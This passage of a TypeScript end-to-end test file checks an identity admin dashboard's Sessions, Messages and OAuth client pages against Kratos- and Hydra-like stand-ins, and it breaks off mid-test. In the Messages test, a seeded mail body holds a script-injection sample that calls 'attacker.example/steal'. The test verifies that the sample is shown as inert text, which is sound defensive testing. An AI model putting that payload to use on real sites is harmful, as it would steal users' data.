// Sessions, Messages and OAuth clients as an administrator uses them, each outcome checked in the
// Kratos-like store or the Hydra-like admin API afterwards.
import { beforeAll, expect, test } from 'bun:test'
import { liveRegionTexts, signedInPage, sweep, tabTo, useSignedInBrowser } from './harness.ts'
import { within } from '../support/eventually.ts'

const admin = useSignedInBrowser('admin', '/dashboard/sessions')

beforeAll(async () => {
  await admin.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: admin.harness.sandbox.url })
})

/**
 * The secrets the Hydra stand-in holds for its clients that the page shows anywhere: in its text, in
 * its markup (attributes included) or as a form field's value, whatever element would hold it.
 */
async function secretsOnPage(): Promise<string[]> {
  const page = await admin.page.evaluate(() =>
    [document.body.innerText, document.documentElement.outerHTML, ...[...document.querySelectorAll('input, textarea, select')].map((field) => (field as HTMLInputElement).value)].join('\n'),
  )
  return [...admin.harness.sandbox.hydra.clients.values()].map((client) => client.secret).filter((secret) => secret !== '' && page.includes(secret))
}

const identityOf = (email: string) => [...admin.harness.sandbox.kratos.identities.values()].find((identity) => identity.traits.email === email)!
const sessionsOf = (email: string) => admin.harness.sandbox.kratos.sessions.filter((session) => session.identityId === identityOf(email).id)
/** Kratos lists sessions newest first (`created_at DESC`), equal times by id. */
const listOrder = (a: { id: string; created_at: string }, b: { id: string; created_at: string }) =>
  Date.parse(b.created_at) - Date.parse(a.created_at) || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0)

/** Characters that hide text or turn it around: none may reach the page as they came. */
const HIDING = /[\u202A-\u202E\u2066-\u2069\u200B-\u200F\uFEFF]/

test('Sessions: newest first; revoke one (the store ends it), extend one (its expiry moves, its device stays), page to the next page', async () => {
  const { kratos } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  // The first page was read while every session was active: the 25 newest, in Kratos's order.
  const firstPage = [...kratos.sessions].sort(listOrder).slice(0, 25)
  // Each identity named by its login identifier: the e-mail address, or for the sandbox's customers the customer number.
  const identifierOf = (session: { identityId: string }) => {
    const { schema_id, traits } = kratos.identities.get(session.identityId)!
    return (schema_id === 'customer' ? traits.customer_number : traits.email) as string
  }
  const listed = await table.locator('tbody tr td:first-child a').allTextContents()
  expect(listed).toEqual(firstPage.map(identifierOf))
  // Two identities from the first page: one session to revoke, one to extend.
  const [victimEmail, extendedEmail] = listed.slice(0, 2) as [string, string]
  const [victim] = sessionsOf(victimEmail)
  expect(victim!.active).toBe(true)
  await admin.page.getByRole('button', { name: `Revoke session of ${victimEmail}` }).click()
  const dialog = admin.page.getByRole('dialog', { name: 'Revoke session?' })
  await dialog.getByRole('button', { name: 'Revoke' }).click()
  await admin.page.getByRole('status').getByText(`Session of ${victimEmail} revoked.`).waitFor()
  expect(victim!.active).toBe(false)
  expect(await admin.page.getByRole('button', { name: `Revoke session of ${victimEmail}` }).count()).toBe(0)

  const [extended] = sessionsOf(extendedEmail)
  const before = Date.parse(extended!.expires_at)
  await admin.page.getByRole('button', { name: `Extend session of ${extendedEmail}` }).click()
  await admin.page.getByRole('status').getByText(`Session of ${extendedEmail} extended.`).waitFor()
  expect(Date.parse(extended!.expires_at)).toBeGreaterThan(before)
  const row = admin.page.getByRole('row').filter({ has: admin.page.getByRole('link', { name: extendedEmail }) })
  expect(await row.locator('time').nth(1).getAttribute('datetime')).toBe(new Date(extended!.expires_at).toISOString())
  // Kratos answers the extended session without its devices; the row still shows the one listed.
  expect(await row.textContent()).toContain(extended!.devices[0]!.ip_address)

  // With faster_session_extend Kratos answers 204: the session is read again, and its row shows the
  // new expiry.
  const [third] = sessionsOf(listed[2]!)
  kratos.fasterSessionExtend = true
  try {
    const thirdBefore = Date.parse(third!.expires_at)
    await admin.page.getByRole('button', { name: `Extend session of ${listed[2]}` }).click()
    await admin.page.getByRole('status').getByText(`Session of ${listed[2]} extended.`).waitFor()
    expect(Date.parse(third!.expires_at)).toBeGreaterThan(thirdBefore)
    const thirdRow = admin.page.getByRole('row').filter({ has: admin.page.getByRole('link', { name: listed[2]! }) })
    await admin.page.waitForFunction(
      ([name, expires]) => [...document.querySelectorAll('main tbody tr')].some((tr) => tr.textContent?.includes(name!) && tr.querySelectorAll('time')[1]?.getAttribute('datetime') === expires),
      [listed[2], new Date(third!.expires_at).toISOString()],
    )
    expect(await thirdRow.textContent()).toContain(third!.devices[0]!.ip_address)
  } finally {
    kratos.fasterSessionExtend = false
  }

  // The second page holds the active sessions after the first page's 25 as they were listed (Kratos
  // pages by the last one's position: the revoked one's place is not taken by a row from page 2),
  // in Kratos's order.
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  await admin.page.getByText('Page 2').waitFor()
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const lastListed = firstPage[24]!
  const rest = kratos.sessions.filter((s) => s.active && listOrder(lastListed, s) < 0).sort(listOrder)
  expect(rest.length).toBeGreaterThan(0)
  expect(await table.locator('tbody tr td:first-child a').allTextContents()).toEqual(rest.map(identifierOf))
  await admin.page.getByRole('button', { name: 'Previous page' }).click()
  await admin.page.getByText('Page 1').waitFor()
  expect(admin.problems).toEqual([])
})

test('Sessions: an Extend Kratos refuses is said beside its row, naming the session, with focus still on its button; nothing jumps to the top of the page', async () => {
  const { kratos } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  // A row low in the list, so that a message at the top of the page would be out of sight.
  const email = (await table.locator('tbody tr td:first-child a').allTextContents())[20]!
  const row = table.getByRole('row').filter({ has: admin.page.getByRole('link', { name: email }) })
  const extend = row.getByRole('button', { name: `Extend session of ${email}` })
  kratos.failWith = 503
  try {
    await extend.focus()
    await admin.page.keyboard.press('Enter')
    await row.getByRole('alert').getByText(`The session of ${email} was not extended. Kratos is unavailable for the moment (HTTP 503). Wait a moment and try again.`).waitFor()
  } finally {
    kratos.failWith = null
  }
  expect(await admin.page.getByRole('alert').count()).toBe(1)
  await admin.page.waitForFunction((name) => document.activeElement?.getAttribute('aria-label') === name, `Extend session of ${email}`, { timeout: 5000 })
  // Still in view: the row, not the top of the page.
  expect(await row.getByRole('alert').isVisible()).toBe(true)
  expect(await admin.page.evaluate(() => window.scrollY)).toBeGreaterThan(0)
  expect(await sweep(admin.page, 'sessions-extend-refused', () => row.getByRole('alert').waitFor())).toEqual([])
  // Extended on a second try: the message goes.
  await extend.click()
  await admin.page.getByRole('status').getByText(`Session of ${email} extended.`).waitFor()
  expect(await row.getByRole('alert').count()).toBe(0)
  for (let waited = 0; admin.problems.length === 0 && waited < 2000; waited += 50) await Bun.sleep(50)
  expect(admin.problems.splice(0).every((problem) => /status of 503\b/.test(problem))).toBe(true)
})

test('Sessions: an Extend Kratos leaves as it was (not yet near its expiry, session.earliest_possible_extend) says so, not "extended"', async () => {
  const { kratos } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  const email = (await table.locator('tbody tr td:first-child a').allTextContents())[3]!
  const session = kratos.sessions.find((s) => s.active && [...kratos.identities.values()].find((identity) => identity.id === s.identityId)?.traits.email === email)!
  const before = session.expires_at
  kratos.earliestPossibleExtendMs = 60 * 60 * 1000
  const said = `Kratos did not extend the session of ${email}: it extends a session only near its expiry (session.earliest_possible_extend), and this one is not there yet.`
  try {
    await admin.page.getByRole('button', { name: `Extend session of ${email}` }).click()
    await admin.page.getByRole('status').getByText(said).waitFor()
    // With faster_session_extend Kratos answers 204 either way: the session read again tells.
    kratos.fasterSessionExtend = true
    const readAgain = admin.page.waitForResponse((response) => response.request().method() === 'GET' && new URL(response.url()).pathname.endsWith(`/sessions/${session.id}`))
    await admin.page.getByRole('button', { name: `Extend session of ${email}` }).click()
    expect((await readAgain).status()).toBe(200)
    await admin.page.getByRole('status').getByText(said).waitFor()
  } finally {
    kratos.earliestPossibleExtendMs = null
    kratos.fasterSessionExtend = false
  }
  expect(session.expires_at).toBe(before)
  // Near enough to its expiry, it is extended, and said so (204, read again).
  kratos.fasterSessionExtend = true
  try {
    await admin.page.getByRole('button', { name: `Extend session of ${email}` }).click()
    await admin.page.getByRole('status').getByText(`Session of ${email} extended.`).waitFor()
  } finally {
    kratos.fasterSessionExtend = false
  }
  expect(Date.parse(session.expires_at)).toBeGreaterThan(Date.parse(before))
  const row = table.getByRole('row').filter({ has: admin.page.getByRole('link', { name: email }) })
  expect(await row.locator('time').nth(1).getAttribute('datetime')).toBe(new Date(session.expires_at).toISOString())
  expect(admin.problems).toEqual([])
})

test('Sessions: an Extend Kratos accepts without the session (204) that cannot be read again says Kratos accepted it, and the list read again shows the new expiry', async () => {
  const { kratos } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  const email = (await table.locator('tbody tr td:first-child a').allTextContents())[4]!
  const session = sessionsOf(email).find((s) => s.active)!
  const before = Date.parse(session.expires_at)
  const row = table.getByRole('row').filter({ has: admin.page.getByRole('link', { name: email }) })
  // With faster_session_extend Kratos answers the extend 204 without the session (session/handler.go
  // adminSessionExtend); the page reads it again, and that read does not reach the service.
  const sessionRead = (url: URL) => url.pathname === `/api/idp-admin/admin/sessions/${session.id}`
  const unreachable = (route: import('playwright-core').Route) => route.abort('connectionrefused')
  kratos.fasterSessionExtend = true
  await admin.page.route(sessionRead, unreachable)
  try {
    await row.getByRole('button', { name: `Extend session of ${email}` }).click()
    await admin.page.getByRole('status').getByText(`Kratos accepted the extend of the session of ${email}; the list has been read again.`, { exact: true }).waitFor()
  } finally {
    kratos.fasterSessionExtend = false
    await admin.page.unroute(sessionRead, unreachable)
  }
  expect(Date.parse(session.expires_at)).toBeGreaterThan(before)
  // Not a refusal: nothing beside the row.
  expect(await row.getByRole('alert').count()).toBe(0)
  await admin.page.waitForFunction(
    ([name, expires]) => [...document.querySelectorAll('main tbody tr')].some((tr) => tr.textContent?.includes(name!) && tr.querySelectorAll('time')[1]?.getAttribute('datetime') === expires),
    [email, new Date(session.expires_at).toISOString()],
  )
  expect(admin.problems.splice(0)).toEqual([expect.stringContaining('ERR_CONNECTION_REFUSED')])
})

test('Sessions: a session that expires while the page is open says so in its Expires cell; one still to expire does not', async () => {
  const { kratos } = admin.harness.sandbox
  const person = kratos.addIdentity({ email: 'expiring.soon@example.test', name: 'Expiring' })
  const session = kratos.addSession(person.id, { ip_address: '203.0.113.77', user_agent: 'Expiring browser' })
  session.expires_at = new Date(Date.now() + 90_000).toISOString()
  const other = await signedInPage(admin.harness, 'admin', '/dashboard/sessions')
  try {
    // The page's timers from the start on the fake clock, which runs with real time until moved.
    await other.page.clock.install()
    await other.page.reload()
    const row = other.page.getByRole('row').filter({ hasText: 'Expiring browser' })
    const expires = row.getByRole('cell').filter({ has: other.page.locator(`time[datetime="${new Date(session.expires_at).toISOString()}"]`) })
    await expires.waitFor()
    expect(await expires.innerText()).not.toContain('expired')
    await other.page.clock.fastForward('02:00')
    await expires.getByText('(expired)').waitFor()
    // The others expire in days: none says so.
    expect(await other.page.getByText('(expired)').count()).toBe(1)
    expect(other.problems).toEqual([])
  } finally {
    await other.context.close()
    kratos.sessions.splice(kratos.sessions.indexOf(session), 1)
    kratos.identities.delete(person.id)
  }
})

test('Sessions: another page or page size says in the status region how many sessions it shows, as the other lists do', async () => {
  const { kratos } = admin.harness.sandbox
  const { page } = admin
  await page.goto(admin.url('/dashboard/sessions'))
  const table = page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  const active = kratos.sessions.filter((session) => session.active).length
  expect(active).toBeGreaterThan(25)
  expect(active).toBeLessThanOrEqual(50)
  const status = page.getByRole('status')

  await page.getByRole('button', { name: 'Next page' }).click()
  await status.getByText(`${active - 25} ${active - 25 === 1 ? 'session' : 'sessions'} shown.`).waitFor()
  expect(await table.locator('tbody tr').count()).toBe(active - 25)
  await page.getByRole('button', { name: 'Previous page' }).click()
  await status.getByText('25 sessions shown.').waitFor()
  await page.getByRole('combobox', { name: 'Page size' }).selectOption('50')
  await status.getByText(`${active} sessions shown.`).waitFor()
  expect(await table.locator('tbody tr').count()).toBe(active)
  expect(admin.problems).toEqual([])
})

test('Sessions: after Revoke, focus is on the next row’s Revoke (the row before, for the last row), where the person was, not on the heading at the top of the page', async () => {
  const { page } = admin
  await page.goto(admin.url('/dashboard/sessions'))
  const table = page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  const focused = () => page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.tagName)
  const inView = () =>
    page.evaluate(() => {
      const box = document.activeElement!.getBoundingClientRect()
      return box.top >= 0 && box.bottom <= window.innerHeight
    })
  const revokeByKeyboard = async (email: string) => {
    await table.getByRole('button', { name: `Revoke session of ${email}` }).focus()
    await page.keyboard.press('Enter')
    const dialog = page.getByRole('dialog', { name: 'Revoke session?' })
    await dialog.getByRole('button', { name: 'Revoke' }).focus()
    await page.keyboard.press('Enter')
    await page.getByRole('status').getByText(`Session of ${email} revoked.`).waitFor()
    await dialog.waitFor({ state: 'hidden' })
  }
  // A row low in the list: the next one's Revoke takes focus, in view, the page not scrolled to the top.
  let listed = await table.locator('tbody tr td:first-child a').allTextContents()
  await revokeByKeyboard(listed[20]!)
  expect(await focused()).toBe(`Revoke session of ${listed[21]}`)
  expect(await inView()).toBe(true)
  expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(0)
  // The next Enter, through the question, revokes that next session.
  await page.keyboard.press('Enter')
  await page.getByRole('dialog', { name: 'Revoke session?' }).getByRole('button', { name: 'Revoke' }).click()
  await page.getByRole('status').getByText(`Session of ${listed[21]} revoked.`).waitFor()
  expect(await focused()).toBe(`Revoke session of ${listed[22]}`)
  // The last row: the row before it.
  listed = await table.locator('tbody tr td:first-child a').allTextContents()
  await revokeByKeyboard(listed.at(-1)!)
  expect(await focused()).toBe(`Revoke session of ${listed.at(-2)}`)
  expect(await inView()).toBe(true)
  expect(admin.problems).toEqual([])
})

test('Sessions: each refused Extend is said anew, the same words twice too; the row\'s message goes when the list is read again (another page and Back)', async () => {
  const { kratos } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/sessions'))
  const table = admin.page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  const email = (await table.locator('tbody tr td:first-child a').allTextContents())[2]!
  const row = table.getByRole('row').filter({ has: admin.page.getByRole('link', { name: email }) })
  const extend = row.getByRole('button', { name: `Extend session of ${email}` })
  // Every alert put on the page, as a screen reader reads it as it appears: without the content of a
  // closed disclosure (the request ID under Details).
  await admin.page.evaluate(() => {
    const shown: string[] = ((window as unknown as { alertsShown: string[] }).alertsShown = [])
    const readOut = (alert: Element) => {
      const copy = alert.cloneNode(true) as Element
      for (const details of copy.querySelectorAll('details:not([open])')) details.replaceChildren(...details.querySelectorAll('summary'))
      return copy.textContent ?? ''
    }
    new MutationObserver((records) => {
      for (const record of records)
        for (const node of record.addedNodes) if (node instanceof Element && node.matches('[role="alert"]')) shown.push(readOut(node))
    }).observe(document.body, { subtree: true, childList: true })
  })
  const said = `The session of ${email} was not extended. Kratos is unavailable for the moment (HTTP 503). Wait a moment and try again.Details`
  kratos.failWith = 503
  try {
    await extend.click()
    await within(5000, async () => (await admin.page.evaluate(() => (window as unknown as { alertsShown: string[] }).alertsShown.length)) === 1)
    await extend.click()
    await within(5000, async () => (await admin.page.evaluate(() => (window as unknown as { alertsShown: string[] }).alertsShown.length)) === 2)
  } finally {
    kratos.failWith = null
  }
  expect(await admin.page.evaluate(() => (window as unknown as { alertsShown: string[] }).alertsShown)).toEqual([said, said])
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  await admin.page.waitForURL((address) => address.searchParams.has('page_token'))
  await admin.page.goBack()
  await admin.page.waitForURL((address) => !address.searchParams.has('page_token'))
  await row.waitFor()
  expect(await admin.page.getByRole('alert').count()).toBe(0)
  for (let waited = 0; admin.problems.length === 0 && waited < 2000; waited += 50) await Bun.sleep(50)
  expect(admin.problems.splice(0).every((problem) => /status of 503\b/.test(problem))).toBe(true)
})

test('Messages: filter to the abandoned ones, open one, read its body as text and its failed dispatches', async () => {
  const outside: string[] = []
  admin.page.on('request', (request) => {
    if (!request.url().startsWith(admin.harness.sandbox.url)) outside.push(request.url())
  })
  await admin.page.goto(admin.url('/dashboard/messages'))
  await admin.page.getByRole('table', { name: 'Messages' }).waitFor()
  await admin.page.getByRole('combobox', { name: 'Status' }).selectOption('abandoned')
  await admin.page.waitForURL(/status=abandoned/)
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const statuses = await admin.page.getByRole('table', { name: 'Messages' }).locator('tbody tr td:nth-child(3)').allTextContents()
  expect(statuses.length).toBe(admin.harness.sandbox.kratos.messages.filter((m) => m.status === 'abandoned').length)
  expect(new Set(statuses)).toEqual(new Set(['abandoned']))
  expect(admin.harness.sandbox.kratos.calls.at(-1)?.query.get('status')).toBe('abandoned')
  // What the filter found is said in the status region (a person using it keeps focus there).
  await admin.page.getByRole('status').getByText(`${statuses.length} messages shown.`).waitFor()
  await admin.page.getByRole('searchbox', { name: 'Recipient' }).fill('nobody@example.test')
  await admin.page.keyboard.press('Enter')
  await admin.page.getByRole('status').getByText('No message matches this filter: the recipient is matched whole, exactly as written.').waitFor()
  await admin.page.goBack()
  await admin.page.waitForURL((u) => !u.search.includes('recipient'))

  await admin.page.getByRole('link', { name: 'Suspicious newsletter' }).click()
  await admin.page.getByRole('heading', { level: 1, name: 'Suspicious newsletter' }).waitFor()
  const body = admin.page.getByLabel('Message body')
  expect(await body.textContent()).toContain('<script>fetch("https://attacker.example/steal")</script>')
  // Shown as text: no element from the mail exists, no script ran, nothing was fetched from elsewhere.
  expect(await admin.page.locator('main img, main script, main p:has-text("Hello")').count()).toBe(0)
  expect(await admin.page.evaluate(() => document.querySelectorAll('img[onerror]').length)).toBe(0)
  await admin.page.getByText('550 5.7.1 content rejected', { exact: false }).waitFor()
  expect(outside).toEqual([])

  await admin.page.goto(admin.url('/dashboard/messages'))
  await admin.page.getByRole('searchbox', { name: 'Recipient' }).fill('user03@example.test')
  await admin.page.getByRole('button', { name: 'Filter' }).click()
  await admin.page.waitForURL(/recipient=user03/)
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const recipients = await admin.page.getByRole('table', { name: 'Messages' }).locator('tbody tr td:nth-child(1)').allTextContents()
  expect(new Set(recipients)).toEqual(new Set(['user03@example.test']))
  expect(admin.problems).toEqual([])
})

test('Messages from Kratos outside dev mode: subjects read "Hidden by Kratos", the message page says why there is no body, and its recipient and dispatch attempts are still shown', async () => {
  const { kratos } = admin.harness.sandbox
  const placeholder = 'redacted-unless-dev-mode'
  /** The placeholder nowhere on the page: not in its text, not in its markup, not in a name or title. */
  const placeholderShown = async () => (await admin.page.evaluate(() => document.body.innerText + document.title)).includes(placeholder) || (await admin.page.content()).includes(placeholder)
  const newsletter = kratos.messages.find((message) => message.subject === 'Suspicious newsletter')!
  kratos.devMode = false
  try {
    await admin.page.goto(admin.url('/dashboard/messages?status=abandoned'))
    const table = admin.page.getByRole('table', { name: 'Messages' })
    await table.waitFor()
    await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
    const subjects = await table.locator('tbody tr td:nth-child(2)').allTextContents()
    expect(subjects.length).toBe(kratos.messages.filter((message) => message.status === 'abandoned').length)
    expect(new Set(subjects.map((subject) => subject.trim()))).toEqual(new Set(['Hidden by Kratos']))
    await admin.page.getByText("Kratos shows a message's subject and body only when it runs in dev mode.").waitFor()
    expect(await placeholderShown()).toBe(false)
    expect(await sweep(admin.page, 'messages-hidden-by-kratos', () => table.waitFor())).toEqual([])

    await table.locator(`a[href="/dashboard/messages/${newsletter.id}"]`).click()
    await admin.page.getByRole('heading', { level: 1, name: `Message to ${newsletter.recipient}` }).waitFor()
    await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
    const bodySection = admin.page.getByRole('region', { name: 'Body' })
    await bodySection.getByText("Kratos shows a message's subject and body only when it runs in dev mode.").waitFor()
    expect(await admin.page.getByLabel('Message body').count()).toBe(0)
    const details = admin.page.getByRole('region', { name: 'Details' })
    expect(await details.textContent()).toContain(newsletter.recipient)
    expect(await details.textContent()).toContain('abandoned')
    expect(await details.textContent()).toContain('stub')
    await admin.page.getByRole('region', { name: 'Dispatch attempts' }).getByText('550 5.7.1 content rejected', { exact: false }).waitFor()
    expect(await placeholderShown()).toBe(false)
    expect(await sweep(admin.page, 'message-hidden-by-kratos', () => admin.page.getByRole('heading', { level: 1, name: `Message to ${newsletter.recipient}` }).waitFor())).toEqual([])
  } finally {
    kratos.devMode = true
  }
  expect(admin.problems).toEqual([])
})

test("Messages: newest first, paged with Kratos's sealed page tokens; Previous page goes back through them", async () => {
  const { kratos } = admin.harness.sandbox
  // Older than every seeded message: 51 in all, three pages of 25.
  for (let i = 1; i <= 20; i++) kratos.addMessage({ recipient: `paging${String(i).padStart(2, '0')}@example.test`, subject: `Paging ${i}`, body: 'Hello', status: 'sent' })
  const newestFirst = [...kratos.messages]
    .sort((a, b) => Date.parse(b.created_at) - Date.parse(a.created_at) || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0))
    .map((message) => message.recipient)
  const table = admin.page.getByRole('table', { name: 'Messages' })
  const recipients = async (pageNumber: number) => {
    await admin.page.getByText(`Page ${pageNumber}`, { exact: true }).waitFor()
    await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
    return table.locator('tbody tr td:nth-child(1)').allTextContents()
  }
  await admin.page.goto(admin.url('/dashboard/messages'))
  expect(await recipients(1)).toEqual(newestFirst.slice(0, 25))
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  expect(await recipients(2)).toEqual(newestFirst.slice(25, 50))
  const secondPageToken = new URL(admin.page.url()).searchParams.get('page_token')!
  // The token is Kratos's own, passed on as it came (sealed, URL-safe base64 with padding).
  expect(kratos.calls.filter((call) => call.path === '/admin/courier/messages').at(-1)!.query.get('page_token')).toBe(secondPageToken)
  await admin.page.getByRole('button', { name: 'Next page' }).click()
  expect(await recipients(3)).toEqual(newestFirst.slice(50))
  expect(await admin.page.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true)
  // Its last message gone meanwhile (a link kept, a store cleaned up): the page says there are no
  // more, not that there are none.
  const last = kratos.messages.splice(kratos.messages.findIndex((message) => message.recipient === newestFirst[50]), 1)
  expect(last.length).toBe(1)
  await admin.page.reload()
  await admin.page.getByRole('main').getByText('No more messages.').waitFor()
  expect(await admin.page.getByText('No messages.', { exact: true }).count()).toBe(0)
  kratos.messages.push(...last)
  await admin.page.reload()
  expect(await recipients(3)).toEqual(newestFirst.slice(50))
  await admin.page.getByRole('button', { name: 'Previous page' }).click()
  expect(await recipients(2)).toEqual(newestFirst.slice(25, 50))
  expect(new URL(admin.page.url()).searchParams.get('page_token')).toBe(secondPageToken)
  await admin.page.getByRole('button', { name: 'Previous page' }).click()
  expect(await recipients(1)).toEqual(newestFirst.slice(0, 25))
  expect(admin.problems).toEqual([])
})

test('Messages: another page size sends focus to the h1 at the top with the list read again, not left on the select far down the page', async () => {
  const { page } = admin
  await page.goto(admin.url('/dashboard/messages'))
  await page.getByRole('table', { name: 'Messages' }).waitFor()
  const size = page.getByRole('combobox', { name: 'Page size' })
  await size.focus()
  await page.keyboard.press('ArrowDown')
  // Shown as chosen, applied when focus leaves the select (Tab), as with Enter.
  await page.keyboard.press('Tab')
  await page.waitForURL(/page_size=50/)
  await page.getByRole('status').getByText(/^\d+ messages shown\.$/).waitFor()
  const rows = await page.getByRole('table', { name: 'Messages' }).locator('tbody tr').count()
  expect(rows).toBeGreaterThan(25)
  expect(await page.getByRole('status').textContent()).toBe(`${rows} messages shown.`)
  expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H1')
  expect(await page.evaluate(() => window.scrollY)).toBe(0)
  expect(admin.problems).toEqual([])
})

test('OAuth clients: create a confidential client, copy its secret once, reload and see no secret; edit its redirect URIs; create a public client; revoke tokens; delete', async () => {
  const { hydra } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/oauth-clients'))
  await admin.page.getByRole('button', { name: 'Create client' }).click()
  const dialog = admin.page.getByRole('dialog', { name: 'Create client' })
  await dialog.getByRole('textbox', { name: 'Client name' }).fill('Reporting dashboard')
  await dialog.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('reports.example.com/callback')
  await dialog.getByRole('button', { name: 'Create client' }).click()
  await dialog.getByText(/is not an absolute URL/).waitFor()
  const before = hydra.calls.filter((call) => call.method === 'POST').length
  expect(before).toBe(0)
  await dialog.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('https://reports.example.com/callback')
  await dialog.getByRole('button', { name: 'Create client' }).click()
  await admin.page.getByRole('heading', { level: 1, name: 'Reporting dashboard' }).waitFor()
  const created = [...hydra.clients.values()].find((client) => client.client_name === 'Reporting dashboard')!
  expect(created.token_endpoint_auth_method).toBe('client_secret_basic')
  const secret = admin.page.getByRole('textbox', { name: 'Client secret', exact: true })
  expect(await secret.inputValue()).toBe(created.secret)
  // The one status region says it in words; no live region reads the secret out.
  await admin.page.getByRole('status').getByText('Client Reporting dashboard created; its secret is shown once, below.').waitFor()
  expect(await admin.page.getByRole('status').count()).toBe(1)
  expect((await liveRegionTexts(admin.page)).filter((text) => text.includes(created.secret!))).toEqual([])
  expect(await secretsOnPage()).toEqual([created.secret!])
  await admin.page.getByRole('button', { name: 'Copy' }).click()
  expect(await admin.page.evaluate(() => navigator.clipboard.readText())).toBe(created.secret!)
  await admin.page.reload()
  await admin.page.getByRole('heading', { level: 1, name: 'Reporting dashboard' }).waitFor()
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  expect(await secretsOnPage()).toEqual([])

  await admin.page.getByRole('button', { name: 'Edit client' }).click()
  const uris = admin.page.getByRole('textbox', { name: 'Redirect URIs', exact: true })
  await uris.fill('https://reports.example.com/callback\nhttps://reports.example.com/callback2')
  await admin.page.getByRole('button', { name: 'Save' }).click()
  await admin.page.getByRole('status').getByText('Client Reporting dashboard saved.').waitFor()
  expect(hydra.clients.get(created.client_id)!.redirect_uris).toEqual(['https://reports.example.com/callback', 'https://reports.example.com/callback2'])
  // The secret survived the edit: Hydra keeps it when none is sent.
  expect(hydra.clients.get(created.client_id)!.secret).toBe(created.secret)

  await admin.page.getByRole('button', { name: 'Revoke tokens' }).click()
  const revoking = admin.page.getByRole('dialog', { name: 'Revoke tokens?' })
  // What Hydra does, said before it is done: the access tokens, not the refresh tokens.
  await revoking.getByText('Every access token Hydra issued to Reporting dashboard stops working. The client itself stays.').waitFor()
  await revoking.getByText(/^Its refresh tokens are not revoked: they can still get new access tokens\. To cut the client off entirely, delete it\./).waitFor()
  await revoking.getByRole('button', { name: 'Revoke' }).click()
  await admin.page.getByRole('status').getByText('The access tokens of Reporting dashboard were revoked.').waitFor()
  expect(hydra.revokedTokens).toEqual([created.client_id])

  await admin.page.getByRole('button', { name: 'Delete client' }).click()
  await admin.page.getByRole('dialog', { name: 'Delete client?' }).getByRole('button', { name: 'Delete' }).click()
  await admin.page.getByRole('heading', { level: 1, name: 'OAuth clients' }).waitFor()
  expect(hydra.clients.has(created.client_id)).toBe(false)

  await admin.page.getByRole('button', { name: 'Create client' }).click()
  const second = admin.page.getByRole('dialog', { name: 'Create client' })
  await second.getByRole('textbox', { name: 'Client name' }).fill('Kiosk app')
  await second.getByRole('combobox', { name: 'Token endpoint authentication' }).selectOption('none')
  await second.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('com.example.kiosk:/callback')
  await second.getByRole('button', { name: 'Create client' }).click()
  await admin.page.getByRole('heading', { level: 1, name: 'Kiosk app' }).waitFor()
  const kiosk = [...hydra.clients.values()].find((client) => client.client_name === 'Kiosk app')!
  expect(kiosk.token_endpoint_auth_method).toBe('none')
  // Hydra gave it a random secret too, and told nobody: no client's secret is anywhere in the page.
  expect(kiosk.secret).toBeTruthy()
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  expect(await secretsOnPage()).toEqual([])
  expect(admin.problems).toEqual([])
})

test('OAuth clients: search by name, and Hydra down shows our message with Retry', async () => {
  const { hydra } = admin.harness.sandbox
  await admin.page.goto(admin.url('/dashboard/oauth-clients'))
  await admin.page.getByRole('searchbox', { name: 'Search clients by name' }).fill('Billing service')
  await admin.page.getByRole('button', { name: 'Search' }).click()
  await admin.page.waitForURL(/name=Billing/)
  await admin.page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  expect(await admin.page.getByRole('table', { name: 'OAuth clients' }).locator('tbody tr').count()).toBe(1)
  expect(hydra.calls.at(-1)?.query.get('client_name')).toBe('Billing service')

  hydra.failWith = 500
  await admin.page.reload()
  const alert = admin.page.getByRole('alert')
  await alert.waitFor()
  expect(await alert.textContent()).not.toContain('server_error')
  hydra.failWith = null
  await alert.getByRole('button', { name: 'Retry' }).click()
  await admin.page.getByRole('table', { name: 'OAuth clients' }).waitFor()
  // The failed load logged its status in the console; nothing else did.
  expect(admin.problems.filter((problem) => !problem.includes('status of 500'))).toEqual([])
  admin.problems.length = 0
})

test('keyboard only: Sessions → Revoke dialog → Escape; OAuth clients → Create client dialog → Escape back to its opener', async () => {
  await admin.page.goto(admin.url('/dashboard/sessions'))
  await admin.page.getByRole('table', { name: 'Active sessions' }).waitFor()
  const first = (await admin.page.getByRole('button', { name: /^Revoke session of / }).first().getAttribute('aria-label'))!
